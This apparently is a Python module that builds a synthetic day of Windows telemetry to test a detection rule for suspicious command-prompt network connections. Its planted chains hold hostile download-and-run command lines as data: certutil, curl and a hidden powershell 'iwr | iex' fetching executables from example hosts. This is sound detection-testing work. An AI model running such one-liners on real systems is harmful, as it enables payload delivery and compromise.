"""The demo scenario: one realistic day of Windows telemetry on 50 hosts, ending now.

Generated deterministically for a seed at start-up (about 10 000 records, well under a
second), not shipped. The day holds ordinary work (browsers, Office, Teams, Windows services,
admin `cmd /c` one-liners, server backup scripts) and, planted at fixed offsets before `now`,
five attack chains of the seed rule *Suspicious Command Prompt Network Connection*
(`../shared/reference/detection.md`) and eight near misses that must not alert:

| planted chain           | when     | stage 1 (cmd.exe start)                       | gap      |
|-------------------------|----------|-----------------------------------------------|----------|
| `office-macro-download` | now−25 m | WINWORD.EXE → `cmd.exe /c certutil … http://…` | 2.3 s   |
| `bat-dropper`           | now−40 m | explorer.exe → `cmd.exe /c "…\\invoice.bat"`  | 5.1 s    |
| `cmd-k-url`             | now−15 m | mshta.exe → `cmd.exe /k curl … https://…`     | 9.8 s    |
| `outlook-ftp-maxspan`   | now−6 h  | OUTLOOK.EXE → `cmd.exe /c ftp -s:…`           | 15.000 s |
| `excel-ipv6`            | now−13 h | EXCEL.EXE → `cmd.exe /c … https://…` (IPv6)   | 1.2 s    |

Three chains lie in the last hour (a first `poll` with the default 1 h look-back finds them);
`hunt --from -24h --to now` finds all five. Each chain's cmd.exe makes a second public
connection a few seconds later: a completed sequence is consumed, so it must not alert twice.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

from connector.simulator.demo_model import Host, Proc, Recorder
from connector.timeutil import EPOCH, to_epoch_ms, utcnow

__all__ = ["DemoScenario", "NearMiss", "Planted", "demo_records", "demo_scenario"]

DAY_MS = 86_400_000
MIN_MS = 60_000
HOUR_MS = 3_600_000
SYSTEM32 = "C:\\Windows\\System32"
CMD = f"{SYSTEM32}\\cmd.exe"
POWERSHELL = f"{SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe"
_OFFICE = {
    "WINWORD.EXE": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "EXCEL.EXE": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
    "OUTLOOK.EXE": "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
}


@dataclass(frozen=True)
class Planted:
    """One planted attack chain: the two S1 event ids an alert must carry, in order."""

    name: str
    host: str
    stage1_id: str
    stage2_id: str
    entity_id: str
    time: datetime
    description: str


@dataclass(frozen=True)
class NearMiss:
    """Events that look like a chain but must not alert, and why."""

    name: str
    host: str
    event_ids: tuple[str, ...]
    why: str


@dataclass(frozen=True)
class DemoScenario:
    """The demo day: records (time-ordered Cloud Funnel dicts), planted chains, near misses."""

    records: list[dict[str, Any]]
    planted: list[Planted]
    near_misses: list[NearMiss]
    start: datetime
    end: datetime


def demo_records(
    now: datetime | None = None, seed: int = 7
) -> tuple[list[dict[str, Any]], list[Planted]]:
    """The demo day ending at `now` (default: the current time) and its planted chains."""
    scenario = demo_scenario(now, seed)
    return scenario.records, scenario.planted


def demo_scenario(now: datetime | None = None, seed: int = 7) -> DemoScenario:
    """The whole demo scenario; the same `now` and `seed` give the same records."""
    end_ms = to_epoch_ms(now or utcnow())
    start_ms = end_ms - DAY_MS
    rng = random.Random(seed)
    rec = Recorder(rng, start_ms)
    hosts = _hosts(rng)
    procs = {h.name: _base_processes(rec, h) for h in hosts}
    for host in hosts:
        _ordinary_day(rec, host, procs[host.name])
    planted = [_plant_chain(rec, hosts, procs, spec) for spec in _CHAINS]
    misses = [_plant_miss(rec, hosts, procs, spec) for spec in _NEAR_MISSES]
    records = sorted(rec.records, key=lambda r: (r["event.time"], r["event.id"]))
    return DemoScenario(records, planted, misses, _at(start_ms), _at(end_ms))


def _at(ms: int) -> datetime:
    return EPOCH + timedelta(milliseconds=ms)


# -- the fleet ---------------------------------------------------------------------------

_USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy"]


def _hosts(rng: random.Random) -> list[Host]:
    hosts = []
    for i in range(50):
        server = i >= 45
        site = ("1700000000000000001", "HQ") if i % 3 else ("1700000000000000002", "Branch")
        hosts.append(
            Host(
                name=f"SRV-{i - 44:02d}" if server else f"WKS-{i + 1:04d}",
                agent_uuid=f"{rng.getrandbits(128):032x}",
                ip=f"10.{20 + i % 3}.{i // 3}.{10 + i}",
                user="CORP\\svc_backup" if server else f"CORP\\{_USERS[i % len(_USERS)]}",
                machine_type="server" if server else rng.choice(["laptop", "desktop"]),
                os_name="Windows Server 2022 Standard" if server else "Windows 11 Enterprise",
                site_id=site[0],
                site_name=site[1],
            )
        )
    return hosts


def _base_processes(rec: Recorder, host: Host) -> dict[str, Proc]:
    boot = rec.day_start_ms - rec.rng.randint(2, 72) * HOUR_MS
    system = "NT AUTHORITY\\SYSTEM"
    services = rec.running(
        "services.exe", f"{SYSTEM32}\\services.exe", user=system, start_ms=boot, integrity="SYSTEM"
    )
    svchost = rec.running(
        "svchost.exe",
        f"{SYSTEM32}\\svchost.exe",
        user=system,
        start_ms=boot + 4000,
        parent=services,
        integrity="SYSTEM",
    )
    explorer = rec.running(
        "explorer.exe", "C:\\Windows\\explorer.exe", user=host.user, start_ms=boot + 60000
    )
    return {"services": services, "svchost": svchost, "explorer": explorer}


# -- ordinary work -----------------------------------------------------------------------

_APPS = [
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", 10, 5),
    ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", 6, 3),
    ("C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", 5, 3),
    (_OFFICE["OUTLOOK.EXE"], 4, 3),
    (_OFFICE["WINWORD.EXE"], 1, 2),
    (_OFFICE["EXCEL.EXE"], 1, 2),
    (f"{SYSTEM32}\\notepad.exe", 0, 1),
]
"""(image, most connections per use, how often it is used)."""

_PUBLIC = [
    "142.250.74.110",
    "13.107.42.14",
    "52.96.165.18",
    "151.101.65.69",
    "104.16.132.229",
    "20.190.159.2",
    "23.215.0.136",
    "2606:4700::6810:84e5",
    "2a00:1450:4001:82b::200e",
]
_UPDATE = ["13.107.4.50", "20.72.205.209", "93.184.215.201"]
_BENIGN_CMD = [
    "cmd.exe /c dir C:\\Users",
    "cmd.exe /c ipconfig /all",
    "cmd.exe /c whoami /groups",
    "cmd.exe /c echo %PATH%",
    "cmd.exe /k title support shell",
    '"C:\\Windows\\system32\\cmd.exe" /c ver',
]


def _ordinary_day(rec: Recorder, host: Host, procs: dict[str, Proc]) -> None:
    rng = rec.rng
    svchost = procs["svchost"]
    for hour in range(24):  # Windows services talk to update and telemetry endpoints hourly
        offset = hour * HOUR_MS + rng.randint(0, HOUR_MS - 1)
        rec.connect(host, svchost, offset, rng.choice(_UPDATE), 443)
        rec.touch(host, svchost, offset + 50, "dns", "settings-win.data.microsoft.com")
        rec.touch(host, svchost, offset + 900, "registry", "HKLM\\SOFTWARE\\Policies")
    if host.machine_type == "server":
        _server_jobs(rec, host, svchost)
        return
    for _ in range(rng.randint(8, 12)):
        _use_app(rec, host, procs["explorer"], rng.randint(0, DAY_MS - 20 * MIN_MS))
    if rng.random() < 0.4:
        offset = rng.randint(0, DAY_MS - 20 * MIN_MS)
        rec.spawn(host, procs["explorer"], offset, rng.choice(_BENIGN_CMD), image=CMD)


def _use_app(rec: Recorder, host: Host, explorer: Proc, offset: int) -> None:
    rng = rec.rng
    image, chattiness, _ = rng.choices(_APPS, weights=[a[2] for a in _APPS])[0]
    app, _ = rec.spawn(host, explorer, offset, f'"{image}"', image=image, new_storyline=True)
    t = offset
    for _ in range(rng.randint(chattiness // 2, chattiness)):
        t += rng.randint(200, 90_000)
        rec.touch(host, app, t, "dns", "login.microsoftonline.com")
        rec.connect(host, app, t + 40, rng.choice(_PUBLIC), 443, repeat=rng.randint(1, 3))
    user = host.user.rsplit("\\", 1)[-1]
    temp = f"C:\\Users\\{user}\\AppData\\Local\\Temp"
    for _ in range(rng.randint(1, 4)):
        t += rng.randint(100, 30_000)
        rec.touch(host, app, t, "file", f"{temp}\\~{t % 9973}.tmp")
    rec.touch(host, app, offset + 30, "module", f"{SYSTEM32}\\winhttp.dll")


def _server_jobs(rec: Recorder, host: Host, svchost: Proc) -> None:
    """Backup scripts twice a day: suspicious-looking starts that only reach private shares."""
    for hour in (1, 13):
        offset = hour * HOUR_MS + rec.rng.randint(0, 30 * MIN_MS)
        cmdline = "cmd.exe /c C:\\Scripts\\nightly-backup.bat"
        job, _ = rec.spawn(host, svchost, offset, cmdline, image=CMD)
        rec.connect(host, job, offset + 2500, "10.10.0.5", 445, protocol="microsoft-ds")
        rec.connect(host, job, offset + 7000, "192.168.50.2", 445, protocol="microsoft-ds")


# -- planted chains and near misses --------------------------------------------------------

Procs = dict[str, dict[str, Proc]]


@dataclass(frozen=True)
class _Chain:
    """A planted chain: `parent` starts cmd.exe with `cmdline`; it connects `gap_ms` later."""

    name: str
    host: int
    before_now_ms: int
    parent: str
    cmdline: str
    gap_ms: int
    dst: str
    port: int
    description: str


@dataclass(frozen=True)
class _Miss:
    """A near miss: like a chain, but something the rule requires is absent."""

    name: str
    host: int
    before_now_ms: int
    parent: str
    cmdline: str
    connects: tuple[tuple[int, str], ...]
    why: str
    by_child: bool = False


def _plant_chain(rec: Recorder, hosts: list[Host], procs: Procs, spec: _Chain) -> Planted:
    host = hosts[spec.host]
    offset = DAY_MS - spec.before_now_ms
    parent = _parent(rec, host, procs[host.name], spec.parent, offset - 4000)
    cmd, first = rec.spawn(host, parent, offset, spec.cmdline, image=CMD)
    protocol = {80: "http", 21: "ftp"}.get(spec.port, "https")
    second = rec.connect(host, cmd, offset + spec.gap_ms, spec.dst, spec.port, protocol=protocol)
    rec.connect(host, cmd, offset + spec.gap_ms + 3500, spec.dst, 443)  # consumed: no 2nd alert
    moment = _at(rec.day_start_ms + offset)
    return Planted(spec.name, host.name, first, second, cmd.uid, moment, spec.description)


def _plant_miss(rec: Recorder, hosts: list[Host], procs: Procs, spec: _Miss) -> NearMiss:
    host = hosts[spec.host]
    offset = DAY_MS - spec.before_now_ms
    parent = _parent(rec, host, procs[host.name], spec.parent, offset - 3000)
    actor, first = rec.spawn(host, parent, offset, spec.cmdline, image=CMD)
    ids = [first]
    if spec.by_child:
        script = "powershell.exe -nop -ep bypass -file s.ps1"
        actor, child = rec.spawn(host, actor, offset + 400, script, image=POWERSHELL)
        ids.append(child)
    ids += [rec.connect(host, actor, offset + gap, dst, 443) for gap, dst in spec.connects]
    return NearMiss(spec.name, host.name, tuple(ids), spec.why)


def _parent(rec: Recorder, host: Host, procs: dict[str, Proc], name: str, offset: int) -> Proc:
    if name == "explorer.exe":
        return procs["explorer"]
    image = _OFFICE.get(name, f"{SYSTEM32}\\{name}")
    proc, _ = rec.spawn(host, procs["explorer"], offset, f'"{image}"', image=image)
    return proc


_CHAINS = (
    _Chain(
        "office-macro-download", 3, 25 * MIN_MS, "WINWORD.EXE",
        "cmd.exe /c certutil -urlcache -split -f http://cdn-invoices.example.com/inv.exe inv.exe",
        2300, "45.77.10.23", 80, "Word macro starts cmd /c that downloads over HTTP",
    ),
    _Chain(
        "bat-dropper", 11, 40 * MIN_MS, "explorer.exe",
        '"C:\\Windows\\System32\\cmd.exe" /c "C:\\Users\\Public\\Downloads\\invoice_2291.bat"',
        5100, "185.199.110.153", 443, "a downloaded .bat run by the user phones home",
    ),
    _Chain(
        "cmd-k-url", 27, 15 * MIN_MS, "mshta.exe",
        "cmd.exe /k curl -s -o %TEMP%\\svc.exe https://updates-cdn.example.net/svc.exe",
        9800, "104.21.34.10", 443, "cmd /k with a URL fetches a payload",
    ),
    _Chain(
        "outlook-ftp-maxspan", 36, 6 * HOUR_MS, "OUTLOOK.EXE",
        "cmd.exe /c ftp -i -s:%TEMP%\\f.txt", 15000, "80.211.5.9", 21,
        "Outlook starts cmd /c ftp; connection exactly 15.000 s later (maxspan is inclusive)",
    ),
    _Chain(
        "excel-ipv6", 8, 13 * HOUR_MS, "EXCEL.EXE",
        "cmd.exe /c powershell -nop -w hidden -c iwr https://files.example.org/a.ps1 | iex",
        1200, "2a01:4f8:c17:1::5", 443, "Excel starts cmd /c with a URL; IPv6 destination",
    ),
)  # fmt: skip

_NEAR_MISSES = (
    _Miss(
        "private-destination", 5, 30 * MIN_MS, "WINWORD.EXE",
        "cmd.exe /c curl http://10.20.0.8/templates/letter.dotx -o %APPDATA%\\letter.dotx",
        ((1000, "10.20.0.8"), (1800, "192.168.1.20")),
        "destinations are private (10/8, 192.168/16)",
    ),
    _Miss(
        "reserved-destination", 14, 10 * MIN_MS, "OUTLOOK.EXE",
        "cmd.exe /c start https://intranet.corp.example/portal",
        ((800, "100.64.3.3"), (900, "169.254.10.1"), (1000, "127.0.0.1")),
        "destinations are carrier-grade NAT, link-local and loopback",
    ),
    _Miss(
        "gap-16s", 20, 20 * MIN_MS, "explorer.exe", "cmd.exe /c C:\\Users\\Public\\sync.cmd",
        ((16000, "151.101.1.69"),), "the connection comes 16 s after the start (maxspan 15 s)",
    ),
    _Miss(
        "gap-15001ms", 31, 3 * HOUR_MS, "explorer.exe", "cmd.exe /c C:\\Tools\\refresh.bat",
        ((15001, "151.101.1.69"),), "the connection comes 15.001 s after the start",
    ),
    _Miss(
        "benign-cmd-dir", 2, 35 * MIN_MS, "explorer.exe", "cmd.exe /c dir",
        ((3000, "142.250.74.110"),), "cmd /c dir: no script, no URL, no Office parent",
    ),
    _Miss(
        "no-connection", 17, 50 * MIN_MS, "WINWORD.EXE",
        "cmd.exe /c start http://news.example.com/", (),
        "suspicious start, but cmd.exe itself never connects",
    ),
    _Miss(
        "child-connects", 23, 45 * MIN_MS, "explorer.exe",
        "cmd.exe /c C:\\Users\\Public\\run.bat", ((2000, "45.77.10.23"),),
        "a child powershell.exe connects, not the cmd.exe process", by_child=True,
    ),
    _Miss(
        "no-switch", 40, 2 * HOUR_MS, "WINWORD.EXE", "cmd.exe http://198.18.0.9/x",
        ((900, "45.77.10.24"),), "cmd.exe without /c or /k",
    ),
)  # fmt: skip
